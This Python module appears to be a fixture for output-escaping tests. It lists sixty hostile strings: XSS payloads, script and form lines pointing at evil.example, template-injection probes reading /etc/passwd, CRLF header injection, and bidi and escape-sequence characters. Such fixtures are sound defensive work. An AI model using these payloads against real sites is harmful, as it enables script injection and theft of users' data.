"""Sixty numbered texts that would act as markup or script on a page that forgot to escape them."""

from __future__ import annotations

_RUNS = "document.title='owned'"
_ELEMENTS = (
    f"<script>{_RUNS}</script>",
    f"<ScRiPt >{_RUNS}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>{_RUNS}",
    f'<img src=x onerror="{_RUNS}">',
    f"<img/src=x/onerror={_RUNS}>",
    f"<svg onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script></svg>",
    f"<body onload={_RUNS}>",
    f"<iframe srcdoc='<script>{_RUNS}</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=csrf>",
    "<button formaction=//evil.example>Approve</button>",
    "<a href=javascript:alert(1)>take it</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>",
    "<plaintext>",
    "<xmp>",
    "<!-- a comment that never ends",
    "<![CDATA[<script>alert(1)</script>]]>",
)
_LEAVING = tuple(
    f"{end}<script>alert({number})</script>"
    for number, end in enumerate(
        (
            "</pre>",
            "</code>",
            "</title>",
            "</textarea>",
            "</details>",
            "</summary>",
            "</table>",
            "</section>",
            "-->",
            '">',
        )
    )
)
_ATTRIBUTES = ('" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '"></a><a href="//evil.example')
_TEMPLATES = ("{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}")
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "`</code><script>`",
    "@ada #1 https://evil.example",
)
_LETTERS = (
    "\x1b[31mred\x1b[0m\x1b]0;owned\x07",
    "\x00\x08\x7f\x9b31m",
    "\u202eevil\u202c \u2066hidden\u2069",
    "\ufeff\u200b\u200d zero width",
    "a\r\nSet-Cookie: owned=1",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 50,
    "&lt;script&gt;&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
HOSTILE_TEXTS = (*_ELEMENTS, *_LEAVING, *_ATTRIBUTES, *_TEMPLATES, *_MARKDOWN, *_LETTERS)
